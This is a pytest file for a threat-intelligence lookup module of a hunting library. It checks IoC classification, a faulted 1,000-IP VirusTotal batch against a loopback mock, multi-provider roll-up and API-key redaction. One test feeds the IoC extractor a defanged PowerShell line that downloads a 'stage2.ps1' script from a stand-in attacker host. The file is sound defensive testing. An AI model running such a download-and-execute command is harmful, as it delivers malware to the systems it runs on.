"""``hb.ti``: lookup over values and frames, the 1,000-IoC faulted batch, roll-up, statuses, providers."""

from __future__ import annotations

import ipaddress
import logging

import pandas as pd
import pytest

import huntbook as hb
from huntbook.config import Config
from huntbook.errors import DataError
from huntbook.testing.loopback import LoopbackServer
from huntbook.testing.ti import CANARY_KEY
from huntbook.ti import RESULT_COLUMNS, ROLLUP_COLUMNS, classify, lookup, rollup
from huntbook.ti.base import HttpProvider, Provider, Request, Result, Verdict
from test_ti_virustotal import KNOWN, virustotal_app


def _vt_settings(server: LoopbackServer, **extra: object) -> dict[str, dict[str, object]]:
    fast = {"timeout": (0.5, 0.5), "deadline": 2.0, "retries": 2, "backoff": 0.01, "rate_limit": None}
    return {"virustotal": {"api_key": CANARY_KEY, "base_url": server.url, **fast, **extra}}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("203.0.113.9", "ipv4"),
        ("2001:DB8::1", "ipv6"),
        ("evil[.]example", "dns"),
        ("hxxps://evil.example/x", "url"),
        ("a.b@example.com", "email"),
        ("44d88612fea8a8f36de82e1278abb02f", "md5"),
        ("3395856ce81f2b7382dee72602f798b642f14140", "sha1"),
        ("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", "sha256"),
        ("C:\\Windows\\System32\\cmd.exe", None),
        ("just words", None),
    ],
)
def test_classify(value: str, expected: str | None) -> None:
    assert classify(value) == expected


def test_a_thousand_iocs_with_ten_percent_faults_give_a_thousand_rows() -> None:
    # 1,000 distinct IPs: 450 known to VirusTotal, 450 unknown, 100 faulted in three ways
    ips = [str(ipaddress.IPv4Address("198.18.0.0") + i) for i in range(1000)]
    known = {ip: {"last_analysis_stats": {"malicious": 9, "harmless": 50}} for ip in ips[:450]}
    faults = {ip: "503" for ip in ips[900:940]} | {ip: "429" for ip in ips[940:970]}
    faults |= {ip: "malformed" for ip in ips[970:]}
    KNOWN.update({f"ip_addresses/{ip}": attrs for ip, attrs in known.items()})
    try:
        with LoopbackServer(virustotal_app(CANARY_KEY)) as server:
            for ip, kind in faults.items():
                server.fault(f"/api/v3/ip_addresses/{ip} ", kind, retry_after="0" if kind == "429" else None)
            out = lookup(ips, ["virustotal"], settings=_vt_settings(server), cache=False, workers=8)
    finally:
        for ip in known:
            KNOWN.pop(f"ip_addresses/{ip}")
    assert len(out) == 1000 and list(out.columns) == RESULT_COLUMNS
    assert out["ioc"].tolist() == ips
    status = dict(zip(out["ioc"], out["status"], strict=True))
    expected = {ip: "ok" for ip in ips[:450]} | {ip: "not_found" for ip in ips[450:900]}
    expected |= {ip: "rate_limited" if kind == "429" else "error" for ip, kind in faults.items()}
    assert status == expected
    assert set(out.loc[out["status"] == "ok", "severity"]) == {"high"}
    assert out.loc[out["ioc"].isin(ips[970:]), "summary"].str.contains("malformed").all()


def test_lookup_reads_iocs_extract_output_and_skips_non_ti_types() -> None:
    iocs = hb.iocs.extract(
        ["powershell iwr hxxp://evil[.]example/stage2.ps1 from 198.51.100.23 C:\\x\\y.exe"]
    )
    before = iocs.copy()
    with LoopbackServer(virustotal_app(CANARY_KEY)) as server:
        out = lookup(iocs, ["virustotal"], settings=_vt_settings(server), cache=False)
    pd.testing.assert_frame_equal(iocs, before)
    assert "windows_path" in set(iocs["ioc_type"])
    assert set(out["ioc_type"]) == set(iocs["ioc_type"]) & set(hb.ti.TI_TYPES) == {"url", "ipv4"}
    verdicts = dict(zip(out["ioc"], out["severity"], strict=True))
    assert verdicts == {"http://evil.example/stage2.ps1": "high", "198.51.100.23": "high"}


def test_lookup_frame_column_filters_and_unsupported_rows() -> None:
    frame = pd.DataFrame({"x": ["198.51.100.23", "a.b@example.com", None, "198.51.100.23", ""]})
    with LoopbackServer(virustotal_app(CANARY_KEY)) as server:
        out = lookup(frame, ["virustotal"], column="x", settings=_vt_settings(server), cache=False)
        only = lookup(
            frame, ["virustotal"], column="x", ioc_types=["email"], settings=_vt_settings(server), cache=False
        )
    assert out[["ioc", "status"]].values.tolist() == [
        ["198.51.100.23", "ok"],
        ["a.b@example.com", "unsupported"],
    ]
    assert only["status"].tolist() == ["unsupported"]
    with pytest.raises(DataError, match="column"):
        lookup(frame, ["virustotal"], cache=False)
    with pytest.raises(DataError, match="unknown IoC type"):
        lookup(frame, ["virustotal"], column="x", ioc_types=["windows_path"], cache=False)


def test_missing_key_gives_no_key_rows_without_network() -> None:
    out = lookup(["198.51.100.23", "evil.example"], ["virustotal"], config=Config(), cache=False)
    assert out["status"].tolist() == ["no_key", "no_key"]
    assert out["summary"].str.contains("providers.virustotal.api_key").all()


class _Static(Provider):
    """An in-process provider for roll-up tests."""

    def __init__(self, name: str, verdicts: dict[str, tuple[str, str]]) -> None:
        super().__init__()
        self.name = name  # type: ignore[misc]
        self.ioc_types = ("ipv4", "dns")  # type: ignore[misc]
        self.verdicts = verdicts

    def lookup_many(self, items, *, progress=None, workers=8):  # type: ignore[no-untyped-def]
        out = []
        for ioc, kind in items:
            status, severity = self.verdicts.get(ioc, ("not_found", "info"))
            out.append(
                Result(
                    self.name,
                    ioc,
                    kind,
                    status,
                    severity if status in ("ok", "not_found") else "",
                    f"{self.name} says",
                )
            )
        return out


def test_rollup_takes_the_most_severe_answer_per_ioc() -> None:
    a = _Static("a", {"198.51.100.23": ("ok", "medium"), "evil.example": ("error", "")})
    b = _Static("b", {"198.51.100.23": ("ok", "high")})
    results = lookup(["198.51.100.23", "evil.example", "192.0.2.1"], [a, b], cache=False)
    assert len(results) == 6
    table = rollup(results)
    assert list(table.columns) == ROLLUP_COLUMNS
    first = table.iloc[0]
    assert (first["ioc"], first["severity"], first["flagged_by"]) == ("198.51.100.23", "high", "a, b")
    assert first["summary"] == "b: b says"
    evil = table.set_index("ioc").loc["evil.example"]
    assert (evil["providers_ok"], evil["providers_failed"], evil["severity"]) == (1, 1, "info")
    with pytest.raises(DataError, match="not a TI result frame"):
        rollup(pd.DataFrame({"x": [1]}))


class _Echo(HttpProvider):
    """A provider with a key as a query parameter, for the redaction tests."""

    name = "echo"
    description = "test"
    base_url = "http://127.0.0.1:9"
    requests = {"ipv4": Request("GET", "/ip/{ioc}")}
    from huntbook.ti.base import AuthSpec

    auth = AuthSpec("query", "key")

    def parse(self, ioc: str, ioc_type: str, data: object) -> Verdict | None:
        return Verdict("low", f"echo {data}")


def test_query_parameter_keys_are_scrubbed_from_errors_and_httpx_logs(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG)
    # nothing listens on port 9: a connection error whose message and logs would carry the URL
    provider = _Echo({"api_key": CANARY_KEY, "retries": 0, "timeout": 0.5})
    result = provider.lookup("198.51.100.23", "ipv4")
    provider.close()
    assert result.status == "error"
    assert CANARY_KEY not in repr(result)
    assert not [r for r in caplog.records if CANARY_KEY in r.getMessage()]


def test_providers_listing_names_the_builtins() -> None:
    table = hb.ti.providers()
    names = set(table["name"])
    assert {"virustotal", "local_feeds", "iporigin"} <= names
    vt = table.set_index("name").loc["virustotal"]
    assert vt["online"] and "ipv4" in vt["ioc_types"]


def test_an_unknown_provider_fails_before_anything_is_asked() -> None:
    with LoopbackServer(virustotal_app(CANARY_KEY)) as server:
        with pytest.raises(hb.PluginError, match="no huntbook.ti plugin named 'nope'"):
            lookup(["198.51.100.23"], ["virustotal", "nope"], settings=_vt_settings(server), cache=False)
        assert server.requests == []
